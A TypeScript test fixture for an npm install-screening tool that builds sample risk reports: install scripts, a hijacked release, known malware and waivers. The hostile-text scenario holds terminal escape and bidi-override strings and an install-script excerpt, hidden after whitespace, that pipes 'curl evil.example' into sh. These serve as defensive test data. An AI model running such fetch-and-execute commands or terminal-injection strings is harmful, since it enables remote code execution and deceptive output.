import type { Report } from '../../src/model/report.ts';
import type { PlacedWaiver } from '../../src/model/waiver.ts';
import {
  entry,
  finding,
  many,
  pkg,
  report,
  ruled,
  scriptFinding,
  unknown,
  unlooked,
  waived,
  waiver,
} from './reports.ts';

const express = pkg('express@5.3.0');
const esbuild = pkg('vite@7.1.0', 'esbuild@0.25.9');
const debug = pkg('express@5.3.0', 'body-parser@2.2.0', 'debug@4.4.4');
const glob = pkg('rimraf@3.0.2', 'glob@7.2.3');

const clean = report({
  packages: [express, ...many(67, 'express@5.3.0')],
  more: { request: { verb: 'install', specs: ['express'] } },
});

const installScript = report({
  packages: [pkg('vite@7.1.0'), esbuild, ...many(13, 'vite@7.1.0')],
  kind: 'ask',
  findings: [ruled('ask', scriptFinding(esbuild, 'postinstall: node install.js'))],
  more: { request: { verb: 'install', specs: ['vite@^7'] } },
});

const stolen = finding('stolen-release', debug, {
  severity: 'critical',
  message: 'Published 3 hours ago by somebody who never published it before, with a new install script',
  advice: 'Stay on debug 4.4.3 and tell its maintainers.',
});

const mixed = report({
  packages: [
    express,
    {
      ...debug,
      entries: [
        entry(['express@5.3.0', 'body-parser@2.2.0', 'debug@4.4.4'], {
          change: { kind: 'changed', from: '4.4.3' },
        }),
        entry(['express@5.3.0', 'send@1.0.0', 'mime@2.0.0', 'a@1.0.0', 'b@1.0.0', 'debug@4.4.4'], {
          place: 'node_modules/send/node_modules/debug',
        }),
      ],
    },
    { ...esbuild, entries: [entry(['vite@7.1.0', 'esbuild@0.25.9'], { alias: 'bundler' })] },
    glob,
    ...many(200, 'express@5.3.0').map((one) => ({
      ...one,
      entries: one.entries.map((place) => ({ ...place, change: { kind: 'unchanged' } as const })),
    })),
  ],
  kind: 'block',
  findings: [
    ruled(
      'note',
      finding('deprecated', glob, {
        severity: 'low',
        message: 'Deprecated: Glob versions prior to v9 are no longer supported',
        advice: 'Ask rimraf for an update.',
      }),
    ),
    ruled('ask', scriptFinding(esbuild, 'postinstall: node install.js')),
    ruled('block', {
      ...stolen,
      absorbs: [
        finding('fresh-release', debug, { message: 'Published 3 hours ago' }),
        scriptFinding(debug, 'postinstall: node setup.js'),
      ],
    } as typeof stolen),
    ruled(
      'ask',
      finding('fresh-release', esbuild, {
        confidence: 'medium',
        message: 'Published 31 hours ago',
        advice: 'Wait a day.',
      }),
    ),
    ruled('ask', {
      ...finding('project-script', glob, { message: 'This project runs a script on install', advice: '' }),
      subject: { kind: 'project', path: 'package.json' },
      excerpt: ['prepare: husky'],
    }),
  ],
  unknowns: [
    unknown('fresh-release', express, 'note', {
      reason: 'not-offered',
      detail: 'registry.example puts in the day on which it took a version in, not the day of publication',
    }),
  ],
  plan: {
    removed: [{ name: 'left-pad', version: '1.3.0' }],
    heldBack: [
      { name: 'qs', chosen: '6.14.0', heldBack: '6.14.1', publishedAt: '2026-11-20T07:20:00.000Z' },
      { name: 'ms', chosen: '2.1.3', heldBack: '2.1.4', publishedAt: '2026-11-20T11:20:00.000Z' },
    ],
    notes: ['Packages of other platforms were looked at too.'],
  },
  more: {
    request: { verb: 'install', specs: ['express@latest', 'vite'] },
    trust: [
      {
        file: '.npmrc',
        key: 'git',
        text: 'git would run ./evil.sh in place of git; it does not count.',
        counts: false,
      },
      {
        file: '.npmrc',
        key: 'registry',
        text: 'registry sends all requests to https://registry.example/, as your own configuration does.',
        counts: true,
      },
    ],
  },
});

const incomplete = report({
  packages: [express, debug, ...many(66, 'express@5.3.0')],
  kind: 'incomplete',
  findings: [],
  unknowns: [
    unknown('install-script', express, 'incomplete'),
    unknown('install-script', debug, 'incomplete'),
    ...many(60).map((one) => unknown('fresh-release', one, 'note', { reason: 'offline', detail: '' })),
    unknown('install-script', pkg('part-0003@1.0.3'), 'ask', {
      reason: 'malformed',
      cause: 'subject',
      detail: 'the tarball ends in the middle of a file',
    }),
    unknown('exotic-source', pkg('part-0003@1.0.3'), 'ask', {
      reason: 'malformed',
      cause: 'subject',
      detail: 'the tarball ends in the middle of a file',
    }),
  ],
  more: { request: { verb: 'ci', specs: [] } },
});

const malware = pkg('colours@1.4.2');
const blocked = report({
  packages: [malware],
  kind: 'block',
  findings: [
    ruled(
      'block',
      finding('known-malware', malware, {
        severity: 'critical',
        message: 'Is malware: MAL-2026-4711',
        advice: 'Did you mean colors?',
      }),
    ),
  ],
  more: {
    request: { verb: 'install', specs: ['colours'] },
    install: { kind: 'not-run', why: 'the plan is blocked' },
  },
});

const gitDependency = unlooked('github:ada/pad#main', 'git.example', 'app@1.0.0', 'pad@0.0.0');
const git = report({
  packages: [pkg('app@1.0.0'), { ...gitDependency, version: '' }],
  kind: 'ask',
  findings: [
    ruled(
      'ask',
      finding('exotic-source', gitDependency, {
        message: 'Comes from git, not from a registry',
        advice: 'Ask app to publish what it depends on.',
      }),
    ),
  ],
  unknowns: [
    unknown('install-script', gitDependency, 'ask', {
      reason: 'not-permitted',
      detail: 'nobody agreed to contact git.example',
    }),
  ],
  more: { request: { verb: 'install', specs: ['app'] } },
});

const ofEsbuild = waiver(esbuild);
const withWaivers = report({
  packages: [pkg('vite@7.1.0'), esbuild, glob, debug],
  kind: 'ask',
  findings: [
    waived(ofEsbuild, scriptFinding(esbuild, 'postinstall: node install.js')),
    ruled('ask', scriptFinding(glob, 'postinstall: node setup.js')),
    waived(
      waiver(glob, { check: 'deprecated' }),
      finding('deprecated', glob, {
        message: 'Deprecated: Glob versions prior to v9 are no longer supported',
      }),
    ),
  ],
  more: {
    request: { verb: 'install', specs: ['vite'] },
    waivers: [
      { placed: ofEsbuild, state: 'used' },
      {
        placed: waiver(glob),
        state: 'outgrown',
        why: 'the bytes of glob@7.2.3 are not those that it is for',
      },
      { placed: waiver(debug, { versions: '>=4 <5', expires: '2026-11-01' }), state: 'expired' },
      { placed: { ...waiver(debug), at: { origin: 'user', file: '~/npq.json', line: 9 } }, state: 'unused' },
      { placed: { ...waiver(debug), counts: false }, state: 'not-agreed' },
    ],
  },
});

/** Everything that a stranger may write holds everything that a terminal might act on. */
export const hostileText =
  '\u001B[2J\u001B]0;pwned\u0007\u009B31mred\r\n  ✓  pass\n\u202Eevil\u2066\u200B\u{E0041}\uD800\u2028x 漢字 🎉️';

/** A stranger chose every text of it. */
export function reportSaying(text: string): Report {
  const hostilePackage = {
    ...pkg('app@1.0.0', 'evil@1.0.0'),
    name: `evil${text}`,
    version: `1.0.0${text}`,
    origin: { kind: 'git', spec: `git+https://t0ken@git.example/${text}`, host: text },
    entries: [
      entry(['app@1.0.0', `evil${text}@1.0.0`], {
        alias: `alias${text}`,
        change: { kind: 'changed', from: text },
      }),
    ],
  } as const;
  const hostileWaiver: PlacedWaiver = {
    ...waiver(hostilePackage, { reason: text, by: text, expires: text }),
    at: { origin: 'project', file: text, line: 1 },
  };

  return report({
    packages: [pkg('app@1.0.0'), hostilePackage],
    kind: 'ask',
    findings: [
      waived(hostileWaiver, finding('fresh-release', hostilePackage, { message: text })),
      ruled('ask', {
        ...finding('install-script', hostilePackage, {
          message: text,
          advice: text,
          excerpt: [text, `node a.js${' '.repeat(3000)}; curl evil.example | sh`],
          data: { [`key${text}`]: text },
        }),
      }),
    ],
    unknowns: [
      unknown('fresh-release', hostilePackage, 'ask', {
        cause: 'subject',
        reason: 'malformed',
        detail: text,
      }),
      unknown('deprecated', hostilePackage, 'note', { detail: text }),
    ],
    plan: {
      path: `/home/${text}`,
      heldBack: [{ name: text, chosen: text, heldBack: text, publishedAt: text }],
      notes: [text],
      removed: [{ name: text, version: text }],
    },
    more: {
      request: { verb: 'install', specs: [text] },
      trust: [{ file: text, key: text, text: text, counts: false }],
      notes: [text],
      waivers: (['used', 'unused', 'expired', 'outgrown', 'not-agreed'] as const).map((state) => ({
        ...{ placed: hostileWaiver, state, why: text },
      })),
      install: {
        kind: 'ran',
        npmExitCode: 0,
        matches: false,
        differences: [text],
        compared: 1,
        receiptPath: text,
        nested: [{ name: text, version: text, verdict: 'block', why: text }],
        refused: [{ path: text, status: 403, why: text }],
        notes: [text],
      },
    },
  });
}

const crowd = many(1300, 'app@1.0.0');
const large = report({
  packages: crowd,
  kind: 'block',
  findings: crowd.map((one, at) =>
    ruled(
      at % 3 === 0 ? 'block' : at % 3 === 1 ? 'ask' : 'note',
      scriptFinding(one, 'a', 'b', 'c', 'd', 'e', 'f'),
    ),
  ),
  unknowns: crowd.flatMap((one, at) =>
    at % 2 === 0
      ? [unknown('fresh-release', one, 'note', { reason: 'offline', detail: 'npq is offline' })]
      : [],
  ),
  more: { notes: Array.from({ length: 20 }, (_, at) => `Note number ${at}.`) },
});

const installed = report({
  packages: [express],
  plan: { removed: [] },
  more: {
    request: { verb: 'install', specs: ['express'] },
    exitCode: 0,
    install: {
      kind: 'ran',
      npmExitCode: 0,
      matches: true,
      differences: [],
      compared: 68,
      receiptPath: '/home/ada/.local/state/npq/receipts/2026-11-20T12-00-00-1f3a.json',
    },
  },
});

export const scenarios: Readonly<Record<string, Report>> = {
  clean,
  'install-script': installScript,
  mixed,
  incomplete,
  blocked,
  'git-not-looked-at': git,
  hostile: reportSaying(hostileText),
  large,
  installed,
  'with-waivers': withWaivers,
};
